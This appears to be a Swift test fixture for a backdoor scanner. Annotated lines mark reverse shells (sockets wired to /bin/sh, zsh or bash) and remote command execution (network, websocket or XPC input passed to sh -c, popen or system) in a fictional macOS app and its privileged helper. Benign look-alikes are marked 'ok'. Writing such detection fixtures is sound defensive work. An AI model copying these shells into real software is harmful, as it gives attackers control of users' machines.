import Foundation
import Darwin
import Network

/// "Diagnostics agent" shipped inside the AcmeDesk macOS app 2.8 (found by a
/// customer's EDR). Classic C reverse shells, called from Swift.
final class DiagnosticsAgent {
    func phoneHome(host: String, port: UInt16) {
        let sock = socket(AF_INET, SOCK_STREAM, 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = port.bigEndian
        inet_pton(AF_INET, host, &address.sin_addr)
        let connected = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(sock, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
            }
        }
        guard connected == 0 else { return }
        dup2(sock, STDIN_FILENO)
        dup2(sock, STDOUT_FILENO)
        dup2(sock, STDERR_FILENO)
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sh"), strdup("-i"), nil]
        execv("/bin/sh", argv) //~ debug-entry/reverse-shell
    }

    func spawnAttachedShell(to sock: Int32) {
        var actions: posix_spawn_file_actions_t?
        posix_spawn_file_actions_init(&actions)
        posix_spawn_file_actions_adddup2(&actions, sock, 0)
        posix_spawn_file_actions_adddup2(&actions, sock, 1)
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/zsh"), nil]
        posix_spawn(&pid, "/bin/zsh", &actions, nil, argv, environ) //~ debug-entry/reverse-shell
    }

    func dialBack() {
        let fd = socket(AF_INET6, SOCK_STREAM, 0)
        var peer = sockaddr_in6()
        _ = withUnsafePointer(to: &peer) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in6>.size)) }
        }
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/bash")
        shell.standardInput = FileHandle(fileDescriptor: fd)
        shell.standardOutput = FileHandle(fileDescriptor: fd)
        try? shell.run() //~ debug-entry/reverse-shell
    }

    func runCommand(from sock: Int32) {
        var buffer = [CChar](repeating: 0, count: 1024)
        let count = recv(sock, &buffer, buffer.count - 1, 0)
        guard count > 0 else { return }
        let line = String(cString: buffer)
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sh"), strdup("-c"), strdup(line), nil]
        var pid: pid_t = 0
        posix_spawn(&pid, "/bin/sh", nil, nil, argv, environ) //~ debug-entry/remote-command-execution
    }

    func pipeCommand(from connection: NWConnection) {
        connection.receive(minimumIncompleteLength: 1, maximumLength: 512) { data, _, _, _ in
            guard let data, let command = String(data: data, encoding: .utf8) else { return }
            let output = popen(command, "r") //~ debug-entry/remote-command-execution
            pclose(output)
        }
    }
}

/// Honest neighbours: log capture and a local terminal.
final class LogCapture {
    private let pipe = Pipe()
    private let uploader = NWConnection(host: "logs.acme-desk.example", port: 443, using: .tls)

    func start() {
        dup2(pipe.fileHandleForWriting.fileDescriptor, STDERR_FILENO) // ok: captures stderr; no shell runs
        uploader.start(queue: .global())
        pipe.fileHandleForReading.readabilityHandler = { [uploader] handle in
            uploader.send(content: handle.availableData, completion: .idempotent)
        }
    }

    func checkReachability(host: String) -> Bool {
        let sock = socket(AF_INET, SOCK_STREAM, 0) // ok: a reachability probe; nothing is executed
        defer { close(sock) }
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        return withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                connect(sock, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) == 0
            }
        }
    }

    func compressArchive(at path: String) throws {
        let archive = open(path + ".gz", O_WRONLY | O_CREAT, 0o644)
        var actions: posix_spawn_file_actions_t?
        posix_spawn_file_actions_init(&actions)
        posix_spawn_file_actions_adddup2(&actions, archive, STDOUT_FILENO)
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/usr/bin/gzip"), strdup("-c"), strdup(path), nil]
        posix_spawn(&pid, "/usr/bin/gzip", &actions, nil, argv, environ) // ok: gzip to a file, fixed program
    }
}

/// The app's Terminal tab: a login shell on a local pseudo-terminal.
final class LocalTerminal {
    private let master: FileHandle

    init(master: FileHandle) {
        self.master = master
    }

    func launchShell() throws {
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/zsh")
        shell.arguments = ["-l"]
        shell.standardInput = master // ok: a local pseudo-terminal the user types into
        shell.standardOutput = master
        try shell.run() // ok: no connection is opened by this type
    }
}

/// The support-tool connection lives in another type of the same file.
final class SupportChannel {
    private let connection = NWConnection(host: "support.acme-desk.example", port: 443, using: .tls)

    func open() {
        connection.start(queue: .main) // ok: a TLS channel for chat, no shell
    }
}

/// The privileged helper of AcmeDesk: two helper levels between the XPC message
/// and the shell.
final class HelperToolService {
    private let logDirectory = URL(fileURLWithPath: "/Library/Logs/AcmeDesk")

    func handle(message: xpc_object_t) {
        guard let raw = xpc_dictionary_get_string(message, "script") else { return }
        dispatch(String(cString: raw))
    }

    private func dispatch(_ script: String) {
        NSLog("running a maintenance script")
        execute(script, timeout: 30)
    }

    private func execute(_ script: String, timeout: TimeInterval) {
        let task = Process()
        task.executableURL = URL(fileURLWithPath: "/bin/sh")
        task.arguments = ["-c", script]
        try? task.run() //~ debug-entry/remote-command-execution
    }

    func archiveLogs() {
        archive(logDirectory.path)
    }

    private func archive(_ directory: String) {
        compress(directory)
    }

    private func compress(_ directory: String) {
        let ditto = Process()
        ditto.executableURL = URL(fileURLWithPath: "/usr/bin/ditto")
        ditto.arguments = ["-c", "-k", directory, directory + ".zip"]
        try? ditto.run() // ok: the helpers are only ever given the app's own log folder
    }

    func runAllowedAction(from connection: NWConnection) {
        connection.receive(minimumIncompleteLength: 1, maximumLength: 64) { data, _, _, _ in
            guard let data, let line = String(data: data, encoding: .utf8),
                  let action = MaintenanceAction(rawValue: line) else { return }
            let launchctl = Process()
            launchctl.executableURL = URL(fileURLWithPath: "/bin/launchctl")
            launchctl.arguments = action.arguments
            try? launchctl.run() // ok: the message only picks one of a fixed set of actions
        }
    }

    func handleSocketMessage(_ task: URLSessionWebSocketTask) {
        task.receive { result in
            switch result {
            case .success(.string(let text)):
                system(text) //~ debug-entry/remote-command-execution
            default:
                break
            }
        }
    }

    func handleNextMessage(_ task: URLSessionWebSocketTask) {
        task.receive { result in
            if case .success(.string(let line)) = result {
                system(line) //~ debug-entry/remote-command-execution
            }
        }
    }
}

/// Honest process launches of the AcmeDesk updater: fixed programs, inputs the app
/// chose itself.
final class UpdaterTasks {
    private let defaults = UserDefaults.standard

    func verifySignature(of bundle: URL) throws {
        let codesign = Process()
        codesign.executableURL = URL(fileURLWithPath: "/usr/bin/codesign")
        codesign.arguments = ["--verify", "--deep", "--strict", bundle.path]
        codesign.environment = ProcessInfo.processInfo.environment
        try codesign.run() // ok: the environment is passed through; it does not choose what runs
    }

    func installHelper() throws {
        let installer = Process()
        installer.executableURL = Bundle.main.url(forAuxiliaryExecutable: "AcmeDeskInstaller")
        installer.arguments = ["--user", NSUserName()]
        installer.currentDirectoryURL = FileManager.default.temporaryDirectory
        try installer.run() // ok: a program shipped in the bundle, local arguments
    }

    func openLogsFolder() {
        _ = Process.launchedProcess(launchPath: "/usr/bin/open", arguments: ["/Library/Logs/AcmeDesk"]) // ok: constant arguments
    }

    func setUpdateChannel() throws {
        let channel = defaults.string(forKey: "updateChannel") ?? "stable"
        let updater = Process()
        updater.executableURL = URL(fileURLWithPath: "/usr/local/bin/acme-update")
        updater.arguments = ["--channel", channel == "beta" ? "beta" : "stable"]
        try updater.run() // ok: the setting only picks between two constants
    }

    func reportDiskUsage() -> String {
        let du = Process()
        let output = Pipe()
        du.executableURL = URL(fileURLWithPath: "/usr/bin/du")
        du.arguments = ["-sh", NSHomeDirectory()]
        du.standardOutput = output
        try? du.run() // ok: output is read back by the app, not sent to a shell
        return String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
    }
}

/// A "remote support" plug-in of the AcmeDesk beta, built on BlueSocket.
final class RemoteSupportSession {
    func start() throws {
        let socket = try Socket.create()
        try socket.connect(to: "support.acme-desk.example", port: 9443)
        let handle = FileHandle(fileDescriptor: socket.socketFD)
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/zsh")
        shell.arguments = ["-i"]
        shell.standardInput = handle
        shell.standardOutput = handle
        shell.standardError = handle
        try shell.run() //~ debug-entry/reverse-shell
    }

    func fallback(port: UInt16) {
        let fd = socket(AF_INET, SOCK_STREAM, 0)
        var address = sockaddr_in()
        address.sin_port = port.bigEndian
        _ = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { connect(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
        }
        dup2(fd, 0)
        dup2(fd, 1)
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("bash"), strdup("-i"), nil]
        execve("/bin/bash", argv, environ) //~ debug-entry/reverse-shell
    }
}
